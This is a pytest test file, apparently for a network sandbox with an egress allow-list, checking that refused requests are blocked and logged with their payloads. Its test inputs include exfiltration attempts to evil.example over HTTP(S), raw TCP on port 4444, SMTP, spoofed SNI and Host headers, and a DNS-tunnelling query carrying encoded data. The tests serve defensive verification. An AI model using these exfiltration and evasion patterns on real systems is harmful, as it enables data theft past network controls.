"""A world with an allow-list: what is refused is still seen, with what it would have carried."""

from __future__ import annotations

from typing import Any

import pytest

pytestmark = pytest.mark.docker


@pytest.fixture
def world(guarded: Any) -> Any:
    """The world with the allow-list, with no event left over."""
    guarded[0].events()
    return guarded[0]


@pytest.fixture
def client(guarded: Any) -> Any:
    """Its client."""
    return guarded[1]


def test_allowed_destinations_answer(world: Any, client: Any) -> None:
    """Names and addresses on the list answer as without one."""
    for url in ("https://api.partner.example/", "http://partner.example/", "http://192.0.2.7/"):
        assert client.run(f'result = fetch("{url}")')[0] == 200
    assert not any(event["blocked"] for event in world.events())


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_refused_request_is_told_with_its_payload(world: Any, client: Any, scheme: str) -> None:
    """The client gets a reset; the event has the decrypted request and says that it was blocked."""
    error = client.run(f'fetch("{scheme}://evil.example/leak?id=1", b"secret body")', fails=True)
    # Python 3.11 takes a reset within TLS for an end of the stream.
    assert "reset" in error.lower() or "closed connection" in error
    events = world.events()
    assert next(event["blocked"] for event in events if event["event"] == "dns") is True
    client.run(f'fetch("{scheme}://evil.example/leak?id=1", b"secret body")', fails=True)
    (event,) = world.egress()
    assert event["blocked"] and event["host"] == "evil.example" and event["protocol"] == scheme
    assert event["payload"].endswith(b"secret body") and event["summary"].startswith(
        f"POST {scheme}://evil.example/leak"
    )


def test_a_lying_host_header_does_not_help(world: Any, client: Any) -> None:
    """An allowed name in SNI or Host on a connection to another destination is refused."""
    client.run('ask("10.0.2.3", query("front.example"))')
    address = next(event["answer"] for event in world.events() if event["event"] == "dns")
    for target in (address, "203.0.113.77"):
        request = b"GET / HTTP/1.1\r\nHost: partner.example\r\n\r\n"
        assert client.run(f'talk("{target}", 80, {request!r})', fails=True)
        assert world.egress()[-1]["blocked"]
    client.run("""
context = ssl.create_default_context()
raw = socket.create_connection((socket.gethostbyname("partner.example"), 443), timeout=5)
inner = context.wrap_socket(raw, server_hostname="partner.example")
inner.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")
try:
    result = inner.recv(100).decode()
except OSError:
    result = "reset"
""")
    assert world.egress()[-1]["blocked"]


def test_mail_to_others_is_refused_at_the_recipient(world: Any, client: Any) -> None:
    """Own and allowed domains are accepted, others get 550 and no data."""
    client.run("""
with smtplib.SMTP("mx.partner.example", 25, timeout=5) as mail:
    mail.ehlo(); mail.mail("a@midori.example")
    result = [mail.rcpt("b@partner.example")[0], mail.rcpt("c@evil.example")[0], mail.rcpt("d@midori.example")[0]]
assert result == [250, 550, 250], result
try:
    smtplib.SMTP("mx.evil.example", 25, timeout=5).sendmail("a@midori.example", ["x@evil.example"], "hi")
except smtplib.SMTPRecipientsRefused:
    pass
""")
    refused = [event for event in world.egress() if event["blocked"]]
    assert any("c@evil.example" in event["summary"] for event in refused)
    assert any("x@evil.example" in event["summary"] and event["host"] == "mx.evil.example" for event in refused)


def test_raw_tcp_udp_and_tunnels_are_refused(world: Any, client: Any) -> None:
    """First bytes of a raw connection are told and it is reset; datagrams are told; TXT of others is empty."""
    assert client.run('talk("203.0.113.78", 4444, b"raw secret")', fails=True)
    client.run('talk("203.0.113.78", 22, b"ssh")', fails=True)
    client.run("""
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp: udp.sendto(b"datagram", ("203.0.113.78", 9))
ask("8.8.8.8", query("c2VjcmV0.t.evil.example", 16))
""")
    events = world.events()
    egress = {event["port"]: event for event in events if event["event"] == "egress"}
    assert egress[4444]["blocked"] and egress[4444]["size"] == 10 and egress[9]["blocked"] and egress[22]["blocked"]
    (dns,) = [event for event in events if event["event"] == "dns"]
    assert dns["blocked"] and dns["answer"] == ""
